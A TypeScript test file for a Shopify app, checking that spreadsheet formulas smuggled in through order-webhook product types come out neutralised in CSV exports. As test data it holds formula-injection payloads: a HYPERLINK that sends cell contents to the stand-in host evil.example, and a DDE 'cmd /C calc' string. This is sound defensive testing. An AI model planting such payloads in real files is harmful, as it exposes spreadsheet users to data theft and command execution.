import { parse } from "csv-parse/sync";
import { beforeAll, describe, expect, test } from "vitest";
import { dayFromIsoDate } from "~/profiles/days";
import { runFullPass } from "~/recompute/full-pass.server";
import { adminRequest, appUnderTest, installTestShop, webhookRequest } from "../support/app-under-test";
import type { AppUnderTest } from "../support/app-under-test";
import { cadenceCli } from "../support/cadence-cli";
import { orderObject } from "../support/webhook-payloads";

// A product type is shop-supplied text that reaches Cadence in order webhooks and leaves it in CSV files a merchant
// opens in a spreadsheet. Sent here as Shopify would send it (a signed orders/create), it must come out as inert text
// in the admin's segment export and in `cadence export`, while amounts stay numbers.

const SHOP = "csv-injection.myshopify.com";
const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
// One customer per formula start OWASP names; the product type is the customer's only one, so it starts the cell.
const PRODUCT_TYPES: Record<string, string> = {
  "7400000001": HYPERLINK,
  "7400000002": "+1+cmd|' /C calc'!A0",
  "7400000003": "-2+3",
  "7400000004": "@SUM(1,2)",
  "7400000005": "Shoes",
};
let app: AppUnderTest;
let shopId: string;

function orderWithProductType(
  id: string,
  customerId: string,
  productType: string,
  subtotal: string,
  createdAt: string,
): string {
  const order = orderObject({ id, customerId, subtotal, createdAt });
  for (const line of order.line_items as Array<Record<string, unknown>>) line.product_type = productType;
  return JSON.stringify(order);
}

const parseCsv = (text: string) => parse(text, { columns: true }) as Array<Record<string, string>>;

function expectNeutralised(rows: Array<Record<string, string>>, raw: string) {
  const byCustomer = new Map(rows.map((row) => [row.customer_id, row]));
  for (const [customer, productType] of Object.entries(PRODUCT_TYPES)) {
    const expected = productType === "Shoes" ? "Shoes" : `'${productType}`;
    expect(byCustomer.get(customer)?.top_product_types, customer).toBe(expected);
  }
  // The bytes a spreadsheet reads: the formula is inside a quoted cell that begins with an apostrophe.
  expect(raw).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
  for (const row of rows) {
    for (const [column, cell] of Object.entries(row))
      expect(cell, `${row.customer_id} ${column}`).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
  }
}

beforeAll(async () => {
  app = await appUnderTest();
  shopId = await installTestShop(app, SHOP, "USD");
  let orderId = 9400000001;
  for (const [customer, productType] of Object.entries(PRODUCT_TYPES)) {
    for (const [subtotal, createdAt] of [
      ["25.00", "2026-01-05T10:00:00Z"],
      ["40.50", "2026-02-20T10:00:00Z"],
    ] as const) {
      const body = orderWithProductType(String(orderId++), customer, productType, subtotal, createdAt);
      expect((await app.handle(webhookRequest({ shop: SHOP, topic: "orders/create", body }))).status).toBe(200);
    }
  }
  expect((await runFullPass(app.database, shopId, { asOf: dayFromIsoDate("2026-03-10") })).status).toBe("done");
});

describe("CSV exports neutralise spreadsheet formulas from webhooks", () => {
  test("the admin's segment export", async () => {
    const profile = await app.prisma.customerProfile.findFirstOrThrow({
      where: { shopId, customerShopifyId: "7400000001" },
    });
    expect(profile.topProductTypes).toEqual([HYPERLINK]);
    const response = await app.handle(await adminRequest(`/app/segment-export/lifecycle%3A${profile.lifecycle}`, SHOP));
    expect(response.status).toBe(200);
    const raw = await response.text();
    const rows = parseCsv(raw);
    expect(rows.map((row) => row.customer_id).sort()).toEqual(Object.keys(PRODUCT_TYPES));
    expectNeutralised(rows, raw);
    // Amounts are still bare numbers a spreadsheet sums.
    expect(rows.every((row) => row.net_spend === "65.50")).toBe(true);
    expect(raw).toMatch(/^7400000001,2,2,65\.50,32\.75,/m);
  });

  // `cadence export` runs as its own process against the test's database.
  test("`cadence export customers`", async () => {
    const result = cadenceCli("export", "customers", "--shop", SHOP);
    expect(result.stderr).toBe("");
    expect(result.status).toBe(0);
    const rows = parseCsv(result.stdout);
    expect(rows).toHaveLength(Object.keys(PRODUCT_TYPES).length);
    expectNeutralised(rows, result.stdout);
    expect(rows.every((row) => row.net_spend === "65.50" && row.orders_count === "2")).toBe(true);
  });
});
